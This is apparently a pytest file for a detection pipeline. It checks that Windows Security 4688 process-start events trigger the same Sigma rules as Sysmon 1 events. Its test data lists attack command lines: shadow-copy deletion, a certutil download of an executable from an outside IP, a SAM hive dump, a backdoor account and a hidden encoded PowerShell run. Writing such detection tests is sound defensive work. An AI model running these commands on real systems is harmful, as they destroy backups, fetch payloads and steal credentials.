"""Security 4688 reaches Sigma's ``process_creation`` rules, like Sysmon 1 (soc/detect/process_start.py).

Servers and domain controllers without Sysmon log process starts only as 4688. Each attack below is
written once and emitted as both events; the 4688 twin, in every shape the Windows parser reads,
must fire exactly the rules its Sysmon 1 twin fires: the project's process_creation rules and a
sample of SigmaHQ's (from ``../shared/data/sigma``), on SQLite (``soc hunt``).
"""

from __future__ import annotations

import json
from collections import Counter
from functools import cache
from pathlib import Path
from typing import Any

import pytest

from soc.detect.compiler import RuleSet, compile_rules
from soc.detect.process_start import PROCESS_START_SERVICE
from soc.detect.rules import load_rules
from soc.hunt import run_hunt
from soc.regression import SAMPLE_TIMEZONE
from tests.conftest import ROOT, shared
from tests.test_windows_shapes import PROVIDERS, SHAPES, SYSMON

NTDS = "467ed212-81ac-4f9c-82e6-4017b31c395b"
WMI_CHILD = "52cbc2cf-6af8-444e-be27-9365c9c5215c"
#: SigmaHQ process_creation rules on Image / ParentImage / CommandLine (file stem -> rule id)
SIGMAHQ = {
    "proc_creation_win_susp_shadow_copies_deletion": "c947b146-0abc-4c87-9c64-b17e9d7274a2",
    "proc_creation_win_certutil_download": "19b08b1c-861d-4e75-a1ef-ea0c1baf202b",
    "proc_creation_win_reg_dumping_sensitive_hives": "fd877b94-9bb5-4191-bb25-d79cbd93c167",
    "proc_creation_win_net_user_add": "cd219ff3-fa99-45d4-8380-a7d15116c6dc",
    "proc_creation_win_dns_susp_child_process": "a4e3d776-f12e-42c2-8510-9e6ed1f43ec3",
    "proc_creation_win_eventvwr_susp_child_process": "be344333-921d-4c4d-8bb8-e584cf584780",
}
SYSTEM32 = "C:\\Windows\\System32\\"

#: (name, image, command line, parent image, rules expected to fire)
STARTS: list[tuple[str, str, str, str, set[str]]] = [
    ("ransomware deletes shadow copies", "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "cmd.exe",
     {SIGMAHQ["proc_creation_win_susp_shadow_copies_deletion"]}),
    ("certutil download", "certutil.exe", "certutil.exe -urlcache -split -f http://45.148.10.92/a.exe C:\\Users\\Public\\a.exe",
     "cmd.exe", {SIGMAHQ["proc_creation_win_certutil_download"]}),
    ("reg save of the SAM hive", "reg.exe", "reg save HKLM\\SAM C:\\Windows\\Temp\\sam.save", "cmd.exe",
     {NTDS, SIGMAHQ["proc_creation_win_reg_dumping_sensitive_hives"]}),
    ("local account added", "net.exe", "net user hotro Abc@12345 /add", "cmd.exe",
     {SIGMAHQ["proc_creation_win_net_user_add"]}),
    ("WMI runs PowerShell (wmiexec)", "WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgA",
     "wbem\\WmiPrvSE.exe", {WMI_CHILD}),
    ("DNS server spawns a shell", "cmd.exe", "cmd.exe /c whoami", "dns.exe",
     {SIGMAHQ["proc_creation_win_dns_susp_child_process"]}),
    ("DNS server starts conhost (the rule's own exception)", "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff",
     "dns.exe", set()),
    ("eventvwr UAC bypass", "cmd.exe", "cmd.exe", "eventvwr.exe", {SIGMAHQ["proc_creation_win_eventvwr_susp_child_process"]}),
    ("an ordinary program", "notepad.exe", "notepad.exe C:\\Users\\ketoan\\baocao.txt", "explorer.exe", set()),
]


def _sysmon_1(minute: int, image: str, command_line: str, parent: str) -> dict[str, Any]:
    return {"channel": SYSMON, "event_id": 1, "provider": PROVIDERS[SYSMON], "computer": "srv-motcua.sotnmt.local",
            "time": f"2026-12-03T03:{minute:02d}:00.000Z", "record_id": 8000 + minute, "data": {
                "UtcTime": f"2026-12-03 03:{minute:02d}:00.000", "ProcessGuid": "{5770385f-1111-43e0-bf4c-06f5698ffbd9}",
                "ProcessId": str(6000 + minute), "Image": SYSTEM32 + image, "CommandLine": command_line,
                "CurrentDirectory": SYSTEM32, "User": "SOTNMT\\quantri", "LogonId": "0x8f12ab", "IntegrityLevel": "High",
                "ParentProcessGuid": "{5770385f-3333-43e0-bf4c-06f5698ffbd9}", "ParentProcessId": "5508",
                "ParentImage": SYSTEM32 + parent, "ParentCommandLine": parent}}


def _security_4688(minute: int, image: str, command_line: str, parent: str) -> dict[str, Any]:
    return {"channel": "Security", "event_id": 4688, "provider": PROVIDERS["Security"],
            "computer": "srv-motcua.sotnmt.local", "time": f"2026-12-03T03:{minute:02d}:00.000Z",
            "record_id": 9000 + minute, "data": {
                "SubjectUserSid": "S-1-5-21-1004336348-1177238915-682003330-500", "SubjectUserName": "quantri",
                "SubjectDomainName": "SOTNMT", "SubjectLogonId": "0x8f12ab", "NewProcessId": hex(6000 + minute),
                "NewProcessName": SYSTEM32 + image, "TokenElevationType": "%%1937", "ProcessId": "0x158c",
                "CommandLine": command_line, "TargetUserSid": "S-1-0-0", "TargetUserName": "-",
                "TargetDomainName": "-", "TargetLogonId": "0x0", "ParentProcessName": SYSTEM32 + parent,
                "MandatoryLabel": "S-1-16-12288"}}


@cache
def _ruleset() -> RuleSet:
    sigma = shared("sigma", "rules", "windows", "process_creation")
    return compile_rules(load_rules([ROOT / "detections", *(sigma / f"{stem}.yml" for stem in SIGMAHQ)]))


def _hunt(tmp_path: Path, name: str, docs: list[dict[str, Any]]) -> Counter[str]:
    path = tmp_path / f"{name}.json"
    path.write_text("".join(json.dumps(d, ensure_ascii=False) + "\n" for d in docs), encoding="utf-8")
    result = run_hunt([path], _ruleset(), timezone=SAMPLE_TIMEZONE)
    assert not result.counters["failed"], result.summary()
    return Counter(str(alert["rule"]["id"]) for alert in result.alerts)


def test_the_sigmahq_sample_compiles_for_both_events() -> None:
    rules = _ruleset().detections
    for stem, rule_id in SIGMAHQ.items():
        report = rules[rule_id].report
        assert rules[rule_id].runnable, (stem, report.errors)
        assert {"windows.security", "windows.sysmon"} <= set(report.datasets), (stem, report.datasets)
        assert not report.unmapped_fields, (stem, report.unmapped_fields)


def test_every_project_process_creation_rule_reads_sysmon_1_and_security_4688() -> None:
    found = 0
    for detection in _ruleset().detections.values():
        if "detections" not in str(detection.info.path) or detection.kind != "event":
            continue
        if "winlog.event_id" not in (detection.where or "") or "`winlog.channel`='Security' AND `winlog.event_id`=4688" not in detection.where:
            continue
        found += 1
        assert "`winlog.channel`='Microsoft-Windows-Sysmon/Operational' AND `winlog.event_id`=1" in detection.where
        assert {"windows.security", "windows.sysmon"} <= set(detection.datasets)
    # sam_ntds_dump and wmi_remote_process at least (psexec's process rule too)
    assert found >= 2


def test_the_sam_ntds_4688_twin_rule_is_retired() -> None:
    """The general path made the hand-written 4688 copy redundant (it would alert twice per event)."""
    assert "1d7f3a52-9c4e-4f0b-8e2a-6b5d0c9e7a31" not in _ruleset().detections


def test_process_creation_pipeline_changes_the_log_source_to_process_start() -> None:
    from soc.catalog import default_catalog

    assert set(default_catalog().datasets_for("windows", "process_creation", PROCESS_START_SERVICE)) >= {
        "windows.security", "windows.sysmon"}
    assert "windows.powershell" not in default_catalog().datasets_for("windows", "process_creation", PROCESS_START_SERVICE)


@pytest.fixture(scope="module")
def sysmon_counts(tmp_path_factory: pytest.TempPathFactory) -> Counter[str]:
    docs = [SHAPES["winlogbeat"](_sysmon_1(i, image, cmd, parent)) for i, (_, image, cmd, parent, _) in enumerate(STARTS)]
    return _hunt(tmp_path_factory.mktemp("sysmon"), "sysmon_1", docs)


def test_sysmon_1_fires_the_expected_rules(sysmon_counts: Counter[str]) -> None:
    expected = Counter(rule for *_, rules in STARTS for rule in rules)
    assert dict(sysmon_counts) == dict(expected)


@pytest.mark.parametrize("shape", list(SHAPES))
def test_security_4688_fires_what_sysmon_1_fires(tmp_path: Path, shape: str, sysmon_counts: Counter[str]) -> None:
    docs = [SHAPES[shape](_security_4688(i, image, cmd, parent)) for i, (_, image, cmd, parent, _) in enumerate(STARTS)]
    counts = _hunt(tmp_path, f"security_4688_{shape}", docs)
    assert dict(counts) == dict(sysmon_counts), shape


@pytest.mark.parametrize(("name", "image", "command_line", "parent", "rules"), STARTS, ids=[s[0] for s in STARTS])
def test_each_4688_fires_the_rules_of_its_sysmon_twin(tmp_path: Path, name: str, image: str, command_line: str,
                                                      parent: str, rules: set[str]) -> None:
    twin = _hunt(tmp_path, "sysmon", [SHAPES["winlogbeat"](_sysmon_1(0, image, command_line, parent))])
    security = _hunt(tmp_path, "security", [SHAPES["winlogbeat"](_security_4688(0, image, command_line, parent))])
    assert set(security) == set(twin) == rules, name


@pytest.mark.search
def test_the_same_on_the_search_engine(opensearch_url: str, unique_name: str) -> None:
    """Stored events on OpenSearch (dialect ``dsl``): each 4688 matches the rules its Sysmon 1 twin matches."""
    from soc.ingest.parsers.json import parse
    from soc.store.base import Window
    from tests.search_helpers import drop, open_search_store

    docs = []
    for i, (_, image, cmd, parent, _) in enumerate(STARTS):
        for kind, build in (("sysmon", _sysmon_1), ("security", _security_4688)):
            parsed = parse(json.dumps(SHAPES["winlogbeat"](build(i, image, cmd, parent))))
            assert parsed.timestamp is not None
            docs.append({"_id": f"{kind}-{i}", "@timestamp": parsed.timestamp.isoformat(), **parsed.fields})
    sigma = shared("sigma", "rules", "windows", "process_creation")
    rules = compile_rules(load_rules([ROOT / "detections", *(sigma / f"{stem}.yml" for stem in SIGMAHQ)]), dialect="dsl")
    store = open_search_store(opensearch_url, unique_name)
    try:
        assert store.write_events(docs).created == len(docs)
        store.refresh()
        for i, (name, *_, expected) in enumerate(STARTS):
            fired: dict[str, set[str]] = {"sysmon": set(), "security": set()}
            for rule_id, detection in rules.detections.items():
                # the process_creation rules (Sysmon 1 or 4688); the others cannot match these events
                if detection.kind != "event" or "winlog.event_id:4688" not in json.dumps(detection.where):
                    continue
                for match in store.find_matches(detection.where, detection.datasets, Window(), [], 50):
                    kind, _, index = match.id.partition("-")
                    if index == str(i):
                        fired[kind].add(rule_id)
            assert fired["security"] == fired["sysmon"] == expected, name
    finally:
        drop(store)
